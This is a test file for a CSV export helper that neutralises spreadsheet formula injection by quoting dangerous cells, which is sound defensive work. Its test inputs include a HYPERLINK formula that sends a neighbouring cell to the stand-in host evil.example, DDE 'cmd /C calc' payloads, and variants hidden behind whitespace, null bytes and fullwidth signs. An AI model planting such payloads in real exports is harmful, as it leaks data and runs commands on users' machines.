import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { csvOptions, spreadsheetSafe } from './csv-cells';

describe('spreadsheetSafe', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?x="&B2,"Open")'],
    ["+1+cmd|' /C calc'!A0"],
    ['-2+3+cmd|\' /C calc\'!A0'],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\n=1+1'],
    ['  =1+1'],
    ['\u0000=1+1'],
    ['＝1+1'],
    ['＋1'],
    ['－1'],
    ['＠SUM(1)'],
    ['\tplain'],
  ])('puts a quote before %j', (value) => {
    expect(spreadsheetSafe(value)).toBe(`'${value}`);
  });

  it.each([['Acme Robotics Ltd.'], ['Series A'], ['a=b'], ['1+1'], ['6000000.00'], [''], ["'=already quoted"], ['x@y.example']])(
    'leaves %j as it is',
    (value) => {
      expect(spreadsheetSafe(value)).toBe(value);
    },
  );
});

describe('csvOptions', () => {
  const write = (rows: Record<string, unknown>[]) => stringify(rows, csvOptions(['name', 'count']));

  it('makes every string cell safe, keeps numbers and reads back as written', () => {
    const text = write([
      { name: '=HYPERLINK("https://evil.example/?x="&B2,"Open")', count: -3 },
      { name: 'Acme', count: null },
    ]);

    expect(text).toBe('name,count\n"\'=HYPERLINK(""https://evil.example/?x=""&B2,""Open"")",-3\nAcme,\n');
    expect(parse(text, { columns: true })).toEqual([
      { name: '\'=HYPERLINK("https://evil.example/?x="&B2,"Open")', count: '-3' },
      { name: 'Acme', count: '' },
    ]);
  });

  it('quotes a cell holding another locale\'s separator, so that it cannot start a cell of its own', () => {
    expect(write([{ name: 'Acme;=1+1', count: 1 }, { name: 'A|B', count: 2 }])).toBe('name,count\n"Acme;=1+1",1\n"A|B",2\n');
  });
});
